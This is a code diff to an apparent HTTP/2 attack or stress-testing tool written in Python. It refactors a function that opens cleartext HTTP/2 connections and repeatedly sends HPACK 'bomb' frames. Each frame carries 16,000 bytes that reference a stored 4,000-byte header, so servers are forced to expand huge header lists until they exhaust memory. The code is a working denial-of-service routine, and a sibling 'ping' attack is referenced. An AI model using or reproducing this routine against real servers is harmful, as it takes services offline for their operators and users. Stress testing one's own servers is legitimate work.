@@ -67,7 +67,7 @@ telemetry: {logs: {access: false}}
 
 
 # Frames of HTTP/2 (RFC 9113).
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # `:method GET`, `:scheme http`, `:path /` of the static table, `:authority a` (RFC 7541, appendix A).
 GET = b"\x82\x86\x84\x41\x01a"
@@ -189,18 +189,16 @@ def ping(attack):
 def hpack(attack):
     """A field of 4,000 bytes in the dynamic table, which each of 16,000 further bytes repeats."""
     stored = GET + b"\x40\x01x\x7f" + bytes([0xA1, 0x1E]) + b"a" * 4000
-    numbers = iter(range(3, 1 << 31, 2))
-    begin = start_of() + frame(HEADERS, 5, 1, stored)
-
-    def bombs():
-        return b"".join(frame(HEADERS, 5, next(numbers), GET + b"\xbe" * 16_000) for _ in range(20))
-
     while attack.lasts():
-        numbers = iter(range(3, 1 << 31, 2))
+        streams = iter(range(3, 1 << 31, 2))
+
+        def bombs(streams=streams):
+            return b"".join(frame(HEADERS, 5, next(streams), GET + b"\xbe" * 16_000) for _ in range(20))
+
         try:
             with attack.connect("h2c") as stream:
                 threading.Thread(target=drain, args=(stream,), daemon=True).start()
-                going = attack.send(stream, begin)
+                going = attack.send(stream, start_of() + frame(HEADERS, 5, 1, stored))
                 while going and attack.lasts():
                     going = attack.send(stream, bombs())
         except OSError:
